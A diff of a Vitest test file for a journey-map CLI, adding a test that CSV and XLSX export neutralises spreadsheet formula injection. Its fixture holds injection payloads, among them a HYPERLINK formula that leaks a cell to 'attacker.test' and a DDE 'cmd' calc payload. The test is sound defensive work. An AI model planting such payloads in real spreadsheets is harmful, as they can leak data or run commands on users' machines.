@@ -1,11 +1,12 @@
 import { existsSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { Zip, ZipDeflate } from 'fflate';
+import { Zip, ZipDeflate, unzipSync } from 'fflate';
 import writeXlsxFile from 'write-excel-file/node';
 import fc from 'fast-check';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import { describe, expect, it } from 'vitest';
-import { EXAMPLES, run, tempDir } from './helpers.js';
+import { EXAMPLES, mapOf, run, tempDir } from './helpers.js';
 
 /** A sheet as a service designer keeps one: a merged title, a persona and goals above, Italian lane questions, gaps, and a row of their own. */
 async function practitionerSheet(dir: string, emotion: string | number = -2): Promise<string> {
@@ -256,28 +257,7 @@ stages:
 });
 
 describe('journey export, then import', () => {
-  // The rich example holds what a sheet cannot (forks, several personas, confidence): export warns
-  // about it instead (test/rich-maps.test.ts). Every version-1 example goes through unchanged.
-  const examples = readdirSync(EXAMPLES).filter((f) => f.endsWith('.yaml') && f !== 'rich-map.yaml');
-
-  for (const format of ['csv', 'xlsx'] as const) {
-    it(`gives back the same map through ${format}: every example builds to identical Markdown and HTML`, async () => {
-      const cwd = tempDir();
-      for (const example of examples) {
-        const name = example.replace(/\.yaml$/, '');
-        const exported = await run(['export', join(EXAMPLES, example), '-f', format, '-o', `${name}.${format}`], { cwd });
-        expect(exported.code, exported.stderr).toBe(0);
-        const imported = await run(['import', `${name}.${format}`, '-o', `${name}.yaml`], { cwd });
-        expect(imported.code, imported.stderr).toBe(0);
-        for (const document of ['md', 'html']) {
-          const before = await run(['build', join(EXAMPLES, example), '-f', document, '-o', '-'], { cwd });
-          const after = await run(['build', `${name}.yaml`, '-f', document, '-o', '-'], { cwd });
-          expect(after.stdout, `${example} through ${format} as ${document}`).toBe(before.stdout);
-        }
-      }
-    });
-  }
-
+  // Every example and fixture comes back the same, model for model: test/round-trip.test.ts.
   it('keeps KPIs with metrics and targets, channels, ids and custom lanes through a spreadsheet', async () => {
     const cwd = tempDir();
     const map = `template: day-in-the-life
@@ -312,6 +292,54 @@ stages:
         const after = await run(['build', `back-${format}.yaml`, '-f', what, '-o', '-'], { cwd });
         expect(after.stdout).toBe(before.stdout);
       }
+    }
+  });
+
+  it('writes no cell a spreadsheet would run as a formula, and reads its own cells back to the same text', async () => {
+    const cwd = tempDir();
+    writeFileSync(
+      join(cwd, 'map.yaml'),
+      `template: current-state
+title: '=HYPERLINK("http://attacker.test/?d="&A2,"Open")'
+stages:
+  - name: "+SUM(1,2)"
+    emotion: -2
+    actions: ["@cmd|' /C calc'!A0", "-1+2"]
+    thinking: "'=already quoted"
+  - name: "-2"
+    emotion: 1
+    actions: ["'plain quote"]
+    thinking: "\\tstill text"
+`,
+    );
+    const before = mapOf(readFileSync(join(cwd, 'map.yaml'), 'utf8'));
+    expect((await run(['export', 'map.yaml', '-f', 'csv'], { cwd })).code).toBe(0);
+    const cells = (parseCsv(readFileSync(join(cwd, 'map.csv'), 'utf8'), { bom: true, relax_column_count: true }) as string[][]).flat();
+    // OWASP: a cell starting with = + - @ tab or carriage return gets a single quote first; so does one
+    // already starting with quotes before such a character, so that the quote read back is the one added.
+    expect(cells).toContain(`'=HYPERLINK("http://attacker.test/?d="&A2,"Open")`);
+    expect(cells).toContain("'+SUM(1,2)");
+    expect(cells).toContain("'@cmd|' /C calc'!A0\n-1+2");
+    expect(cells).toContain("''=already quoted");
+    expect(cells).toContain("'plain quote");
+    expect(cells).toContain("'\tstill text");
+    // A number is no formula: a score, or a stage named -2, stays as it is.
+    expect(cells.filter((c) => c === '-2')).toHaveLength(2);
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && c !== '-2')).toEqual([]);
+
+    // The XLSX keeps the text exact in string cells (t="s"), which no spreadsheet program runs, and a score as a number.
+    expect((await run(['export', 'map.yaml', '-f', 'xlsx'], { cwd })).code).toBe(0);
+    const sheet = new TextDecoder().decode(unzipSync(readFileSync(join(cwd, 'map.xlsx')))['xl/worksheets/sheet1.xml']!);
+    expect(sheet).not.toContain('<f>');
+    expect(sheet.match(/<c r="[A-Z]+\d+"[^>]*>[^]*?<\/c>/g)!.filter((c) => !c.includes('t="s"'))).toEqual([expect.stringContaining('<v>-2</v>'), expect.stringContaining('<v>1</v>')]);
+
+    for (const format of ['csv', 'xlsx']) {
+      const imported = await run(['import', `map.${format}`, '-o', `back-${format}.yaml`], { cwd });
+      expect(imported.code, imported.stderr).toBe(0);
+      const after = mapOf(readFileSync(join(cwd, `back-${format}.yaml`), 'utf8'));
+      // A leading tab is trimmed from a cell on import, as from any spreadsheet text (a map holds no carriage return); the rest is exact.
+      const trim = (m: typeof before) => JSON.parse(JSON.stringify(m).replace(/"\\t/g, '"'));
+      expect(trim(after), format).toEqual(trim(before));
     }
   });
 
